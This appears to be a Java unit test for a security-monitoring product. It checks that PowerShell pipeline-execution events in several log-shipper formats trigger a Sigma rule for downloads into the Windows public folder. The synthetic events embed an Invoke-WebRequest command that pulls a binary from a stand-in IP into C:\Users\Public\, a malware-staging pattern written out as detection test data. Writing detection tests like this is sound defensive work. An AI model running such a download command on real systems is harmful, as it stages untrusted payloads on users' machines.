package io.socaas.correlation.sigma.yaml;

import static io.socaas.correlation.sigma.yaml.IngestedEvents.LOGSOURCES;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.TENANT;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingested;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.json;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.logsources;
import static org.assertj.core.api.Assertions.assertThat;

import io.socaas.correlation.detection.domain.EventAdmission;
import io.socaas.correlation.rules.domain.DetectionRule;
import io.socaas.correlation.rules.domain.RulePack;
import io.socaas.correlation.rules.domain.TenantRuleSet;
import io.socaas.correlation.sigma.domain.Logsource;
import io.socaas.correlation.sigma.domain.SigmaEvent;
import io.socaas.correlation.sigma.domain.SigmaRule;
import io.socaas.events.ocsf.OcsfNormalizer;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/**
 * The Windows PowerShell log's pipeline execution details (800), as ingestion normalizes them
 * (event-model's {@link OcsfNormalizer}, then {@link EventAdmission}), are Sigma's {@code
 * ps_classic_script} events in every shape Windows events arrive in: flat (NXLog), evtx dump,
 * Winlogbeat, Wazuh and Snare's one-line text, and rules of that category read {@code Data}, the
 * event's context block ({@code HostApplication=...}, {@code CommandLine=...}) and the pipeline's
 * details ({@code ParameterBinding(...)}), in each of them. SigmaHQ's rules of the corpus name no
 * {@code ps_classic_script} rule, so a rule written after their {@code ps_classic_start} ones (a
 * download to a public folder) stands for them, deployed and routed as the corpus rules are. Events
 * are written after the message text Windows PowerShell documents for event 800 and the shippers'
 * documented layouts.
 */
class PowerShellClassicScriptLogsourcesTest {

    private static final Logsource PS_CLASSIC_SCRIPT =
            new Logsource("windows", "ps_classic_script", "powershell-classic");

    private static final SigmaRule DOWNLOAD_TO_PUBLIC = SigmaYamlReader.read("""
            title: Download Into A Public Folder In A Windows PowerShell Pipeline
            id: 5b0f7e22-6a1d-4c93-8f47-2e9d0a6c1b85
            status: test
            description: A pipeline of the Windows PowerShell log downloads a file into the public user's folder.
            logsource:
                product: windows
                category: ps_classic_script
            detection:
                selection:
                    Data|contains: 'Invoke-WebRequest'
                folder:
                    Data|contains: '\\Users\\Public\\'
                condition: selection and folder
            level: medium
            """);
    private static final TenantRuleSet DEPLOYED = new TenantRuleSet(
            TENANT,
            List.of(new DetectionRule(DOWNLOAD_TO_PUBLIC, RulePack.unnamed("tenant"), "download_to_public.yml")));

    /** One pipeline: its command line, the folder written to, and the host it ran on. */
    private record Pipeline(String commandLine, String folder) {

        String context(String eol) {
            return "\tDetailSequence=1" + eol + "\tDetailTotal=1" + eol + eol + "\tSequenceNumber=58" + eol + eol
                    + "\tUserId=CORP\\hlindqvist" + eol
                    + "\tHostName=ConsoleHost" + eol
                    + "\tHostVersion=5.1.22621.3880" + eol
                    + "\tHostId=91c4e7a2-5d38-4b06-a3f1-c8e2d0b79a14" + eol
                    + "\tHostApplication=powershell.exe -nop" + eol
                    + "\tEngineVersion=5.1.22621.3880" + eol
                    + "\tRunspaceId=0a6d3f81-c297-4e5b-b4a0-7e19f2c8d356" + eol
                    + "\tPipelineId=9" + eol + "\tScriptName=" + eol
                    + "\tCommandLine=" + commandLine;
        }

        String details(String eol) {
            return "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"" + eol
                    + "ParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://203.0.113.88/p/upd.bin\"" + eol
                    + "ParameterBinding(Invoke-WebRequest): name=\"OutFile\"; value=\"" + folder + "upd.bin\"" + eol;
        }

        String message(String eol) {
            return "Pipeline execution details for command line: " + commandLine + " . " + eol + eol
                    + "Context Information: " + eol + context(eol) + eol + eol + "Details: " + eol + details(eol);
        }
    }

    private static Pipeline downloadTo(String folder) {
        return new Pipeline(
                "Invoke-WebRequest -Uri http://203.0.113.88/p/upd.bin -OutFile " + folder + "upd.bin", folder);
    }

    private static String nxlog(Pipeline p) {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("EventTime", "2026-03-04 16:05:12");
        event.put("Hostname", "OPS-LT22.corp.example");
        event.put("EventID", 800);
        event.put("Channel", "Windows PowerShell");
        event.put("SourceName", "PowerShell");
        event.put("Message", p.message("\r\n"));
        return json(event);
    }

    private static String evtx(Pipeline p) {
        return json(Map.of(
                "Event",
                Map.of(
                        "System",
                        Map.of(
                                "Provider",
                                Map.of("#attributes", Map.of("Name", "PowerShell")),
                                "EventID",
                                Map.of("#attributes", Map.of("Qualifiers", "0"), "#text", 800),
                                "Channel",
                                "Windows PowerShell",
                                "Computer",
                                "OPS-LT22.corp.example"),
                        "EventData",
                        Map.of(
                                "Data",
                                Map.of(
                                        "#text",
                                        "<string>" + p.commandLine() + "</string>\n<string>" + p.context("\n")
                                                + "</string>\n<string>" + p.details("\n") + "</string>")))));
    }

    private static String winlogbeat(Pipeline p) {
        return json(Map.of(
                "@timestamp", "2026-03-04T16:05:12.640Z",
                "message", p.message("\n"),
                "winlog",
                        Map.of(
                                "channel", "Windows PowerShell",
                                "event_id", "800",
                                "provider_name", "PowerShell",
                                "computer_name", "OPS-LT22.corp.example",
                                "event_data",
                                        Map.of(
                                                "param1", p.commandLine(),
                                                "param2", p.context("\n"),
                                                "param3", p.details("\n")))));
    }

    private static String wazuh(Pipeline p) {
        String data = p.commandLine() + ", " + p.context("\r\n") + ", " + p.details("\r\n");
        return json(Map.of(
                "win",
                Map.of(
                        "system",
                                Map.of(
                                        "providerName", "PowerShell",
                                        "eventID", "800",
                                        "channel", "Windows PowerShell",
                                        "computer", "OPS-LT22.corp.example"),
                        "eventdata", Map.of("data", data.replace("\\", "\\\\").replace("\"", "\\\"")))));
    }

    private static String snare(Pipeline p) {
        return "<14>Mar  4 16:05:12 OPS-LT22 MSWinEventLog\t1\tWindows PowerShell\t7734\tWed Mar 04 16:05:12 2026\t"
                + "800\tPowerShell\tN/A\tN/A\tInformation\tOPS-LT22.corp.example\tPipeline Execution Details\t\t"
                + p.message("  ").replace("\t", " ") + "\t63";
    }

    private static final List<Function<Pipeline, String>> JSON_SHAPES = List.of(
            PowerShellClassicScriptLogsourcesTest::nxlog,
            PowerShellClassicScriptLogsourcesTest::evtx,
            PowerShellClassicScriptLogsourcesTest::winlogbeat,
            PowerShellClassicScriptLogsourcesTest::wazuh);

    /** Every shape of the pipeline, as detection admits it. */
    private static List<Map<String, Object>> shapes(Pipeline p) {
        List<Map<String, Object>> events = new ArrayList<>();
        JSON_SHAPES.forEach(shape -> events.add(ingestedJson(shape.apply(p))));
        events.add(ingested(snare(p)));
        return events;
    }

    private static boolean fires(Map<String, Object> raw) {
        SigmaEvent event = SigmaEvent.of(raw);
        return DEPLOYED.candidates(event, LOGSOURCES.classify(event)).stream()
                .anyMatch(c -> c.rule().sigma().matches(event.withFieldMapping(c.fields())));
    }

    @Test
    void pipelineExecutionDetailsArePsClassicScriptEventsInEveryShape() {
        for (Map<String, Object> event : shapes(downloadTo("C:\\Users\\Public\\"))) {
            assertThat(logsources(event)).as(event.toString()).contains(PS_CLASSIC_SCRIPT);
        }
    }

    @Test
    void aPsClassicScriptRuleReadsThePipelinesDataInEveryShape() {
        for (Map<String, Object> event : shapes(downloadTo("C:\\Users\\Public\\"))) {
            assertThat(fires(event)).as(event.toString()).isTrue();
        }
        // the same download into the user's own folder
        for (Map<String, Object> event : shapes(downloadTo("C:\\Users\\hlindqvist\\Downloads\\"))) {
            assertThat(fires(event)).as(event.toString()).isFalse();
        }
    }
}
